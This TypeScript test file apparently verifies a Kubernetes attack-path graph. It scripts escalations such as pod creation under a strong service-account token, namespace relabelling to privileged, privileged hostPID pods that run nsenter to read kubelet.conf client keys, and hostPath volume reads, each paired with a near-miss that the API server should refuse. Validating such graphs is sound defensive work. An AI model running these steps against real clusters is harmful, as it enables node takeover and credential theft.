/** Running pods: as any account of the namespace, with any of its Secrets, and as privileged as admission lets them be. */
import type { PlainObject } from '../../../../src/graph/family.ts';
import { allowEverywhereTo, allowTo, namespace, restricted } from '../../../../src/graph/example-objects.ts';
import type { Attack } from '../attack.ts';
import { RESTRICTED, TOKEN_FILE, boxPod, strongIn, withToken, wordSecret } from '../objects.ts';
import { type Place, type TriedFamily, way } from '../way.ts';

const BASELINE = { 'pod-security.kubernetes.io/enforce': 'baseline' };

export const family: TriedFamily = {
  ways: [
    way({
      edge: 'POD_CREATE_AS_SA',
      nodes: true,
      to: () => 'ClusterAdmin',
      world: ({ ns, x }) => [restricted(ns), ...strongIn(ns), ...allowTo(x, ns, 'create pods')],
      take: async (attack) => {
        await attack.post(podsOf(attack), plain(attack, withToken('strong')));
        await useTokenOf(attack, 'mine');
      },
      nearest: {
        because: 'pods run as accounts of their own namespace',
        world: ({ ns, other, x }) => [restricted(ns), namespace(other), ...strongIn(other), ...allowTo(x, ns, 'create pods')],
        refusal: /403.*serviceaccount .*not found/s,
      },
    }),
    way({
      edge: 'CONTROLLER_CREATE_AS_SA',
      nodes: true,
      to: () => 'ClusterAdmin',
      world: ({ ns, x }) => [restricted(ns), ...strongIn(ns), ...allowTo(x, ns, 'create deployments')],
      take: async (attack) => {
        await attack.post(`/apis/apps/v1/namespaces/${attack.ns}/deployments`, deployed(`${attack.ns}/mine`, withToken('strong')));
        await useTokenOfStrongPod(attack);
      },
      nearest: {
        because: 'the group is not that of Deployments any more',
        world: ({ ns, x }) => [restricted(ns), ...strongIn(ns), ...allowTo(x, ns, 'create deployments.extensions')],
        refusal: /403/,
      },
    }),
    way({
      edge: 'CONTROLLER_PATCH_AS_SA',
      nodes: true,
      to: () => 'ClusterAdmin',
      world: ({ ns, x }) => [restricted(ns), ...strongIn(ns), deployed(`${ns}/web`), ...allowTo(x, ns, 'patch deployments:web')],
      take: async (attack) => {
        await attack.patch(`/apis/apps/v1/namespaces/${attack.ns}/deployments/web`, { spec: { template: { spec: withToken('strong') } } });
        await useTokenOfStrongPod(attack);
      },
      nearest: {
        because: 'scaling changes no template',
        world: ({ ns, x }) => [restricted(ns), ...strongIn(ns), deployed(`${ns}/web`), ...allowTo(x, ns, 'patch deployments/scale')],
        refusal: /403/,
      },
    }),
    way({
      edge: 'POD_CREATE_SECRET_MOUNT',
      nodes: true,
      to: ({ ns }) => `Secret/${ns}/db`,
      world: (place) => [restricted(place.ns), wordSecret(place, `${place.ns}/db`), ...allowTo(place.x, place.ns, 'create pods')],
      take: mountSecret,
      nearest: {
        because: 'the right to pods is for another namespace',
        world: (place) => [
          restricted(place.ns),
          restricted(place.other),
          wordSecret(place, `${place.ns}/db`),
          ...allowTo(place.x, place.other, 'create pods'),
        ],
        refusal: /403/,
      },
    }),
    way({
      edge: 'POD_CREATE_PRIVILEGED',
      nodes: true,
      to: () => 'Node/node1',
      world: ({ ns, x }) => allowTo(x, ns, 'create pods'),
      take: takeNode,
      nearest: {
        because: 'Pod Security refuses the pod',
        world: ({ ns, x }) => [namespace(ns, BASELINE), ...allowTo(x, ns, 'create pods')],
        refusal: /403.*PodSecurity/s,
      },
    }),
    way({
      edge: 'NAMESPACE_RELABEL',
      nodes: true,
      to: () => 'Node/node1',
      world: ({ ns, x }) => [restricted(ns), ...allowTo(x, ns, 'create pods', `patch namespaces:${ns}`)],
      take: async (attack) => {
        await attack.patch(`/api/v1/namespaces/${attack.ns}`, {
          metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } },
        });
        await takeNode(attack);
      },
      nearest: {
        because: 'the grant is for another namespace',
        world: ({ ns, x }) => [restricted(ns), ...allowTo(x, ns, 'create pods', 'patch namespaces:other')],
        refusal: /403/,
      },
    }),
    way({
      edge: 'NAMESPACE_RELABEL',
      nodes: true,
      to: () => 'Node/node1',
      world: ({ ns, x }) => [restricted(ns), ...allowTo(x, ns, 'create pods', 'patch namespaces/status')],
      take: async (attack) => {
        await attack.patch(`/api/v1/namespaces/${attack.ns}/status`, {
          metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } },
        });
        await takeNode(attack);
      },
      nearest: {
        because: 'reading the status changes no label',
        world: ({ ns, x }) => [restricted(ns), ...allowTo(x, ns, 'create pods', 'get namespaces/status')],
        refusal: /403/,
      },
    }),
    way({
      edge: 'PV_HOSTPATH',
      nodes: true,
      to: () => 'NodeFiles/node1',
      world: ({ ns, x }) => [restricted(ns), ...allowTo(x, ns, 'create pods'), ...allowEverywhereTo(x, 'create persistentvolumes')],
      take: async (attack) => {
        await attack.post('/api/v1/persistentvolumes', volume(attack, '/var/lib/kubelet'));
        await readThroughVolume(attack, 'config.yaml');
      },
      nearest: {
        because: 'PersistentVolumes lie in no namespace, so a RoleBinding grants nothing',
        world: ({ ns, x }) => [restricted(ns), ...allowTo(x, ns, 'create pods', 'create persistentvolumes')],
        refusal: /403/,
      },
    }),
    way({
      edge: 'PV_HOSTPATH',
      nodes: true,
      to: () => 'NodeFiles/node1',
      world: ({ ns, x }) => [restricted(ns), volume({ ns }, '/'), ...allowTo(x, ns, 'create pods')],
      take: (attack) => readThroughVolume(attack, 'var/lib/kubelet/config.yaml'),
      nearest: {
        because: 'claims alone mount nothing',
        world: ({ ns, x }) => [restricted(ns), volume({ ns }, '/'), ...allowTo(x, ns, 'create persistentvolumeclaims')],
        refusal: /403/,
      },
    }),
  ],
  untried: { SCC_USE: 'SecurityContextConstraints are of OpenShift' },
};

function podsOf({ ns }: Pick<Place, 'ns'>): string {
  return `/api/v1/namespaces/${ns}/pods`;
}

/** A pod that the strictest level lets in. */
function plain({ ns }: Pick<Place, 'ns'>, spec: PlainObject = {}, container: PlainObject = {}): PlainObject {
  return boxPod(`${ns}/mine`, spec, { securityContext: RESTRICTED, ...container });
}

function deployed(at: string, more: PlainObject = {}): PlainObject {
  const [ns = '', name = ''] = at.split('/');
  const { spec } = plain({ ns }, more) as { spec: Record<string, unknown> };
  return {
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: { namespace: ns, name },
    spec: {
      replicas: 1,
      selector: { matchLabels: { app: name } },
      template: { metadata: { labels: { app: name } }, spec },
    },
  };
}

/** A pod of the attacker's own is the attacker: what is told inside he is told. */
async function useTokenOf(attack: Attack, pod: string): Promise<void> {
  await attack.controlsCluster({ token: await attack.inOwnPod(pod, `cat ${TOKEN_FILE}`) });
}

async function useTokenOfStrongPod(attack: Attack): Promise<void> {
  const name = await attack.eventually(() => attack.podOf('strong'));
  await useTokenOf(attack, name);
}

async function mountSecret(attack: Attack): Promise<void> {
  const volumes = [{ name: 'v', secret: { secretName: 'db' } }];
  await attack.post(podsOf(attack), plain(attack, { volumes }, { volumeMounts: [{ name: 'v', mountPath: '/v' }] }));
  attack.finds(await attack.inOwnPod('mine', 'cat /v/word'));
}

async function takeNode(attack: Attack): Promise<void> {
  await attack.eventually(() =>
    attack.post(podsOf(attack), boxPod(`${attack.ns}/mine`, { hostPID: true }, { securityContext: { privileged: true } })),
  );
  attack.finds(await attack.inOwnPod('mine', 'nsenter -t 1 -m -- cat /etc/kubernetes/kubelet.conf'), 'client-key-data');
}

const SHARED = { accessModes: ['ReadWriteOnce'], storageClassName: '' };

function volume({ ns }: Pick<Place, 'ns'>, path: string): PlainObject {
  const spec = { ...SHARED, capacity: { storage: '1Gi' }, hostPath: { path } };
  return { apiVersion: 'v1', kind: 'PersistentVolume', metadata: { name: ns }, spec };
}

/** The claim comes with the pod. Not even root inside: a file that everybody on the node may read is enough to see. */
async function readThroughVolume(attack: Attack, file: string): Promise<void> {
  const claim = { spec: { ...SHARED, volumeName: attack.ns, resources: { requests: { storage: '1Gi' } } } };
  const volumes = [{ name: 'v', ephemeral: { volumeClaimTemplate: claim } }];
  await attack.post(podsOf(attack), plain(attack, { volumes }, { volumeMounts: [{ name: 'v', mountPath: '/v' }] }));
  attack.finds(await attack.inOwnPod('mine', `cat /v/${file}`), 'KubeletConfiguration');
}
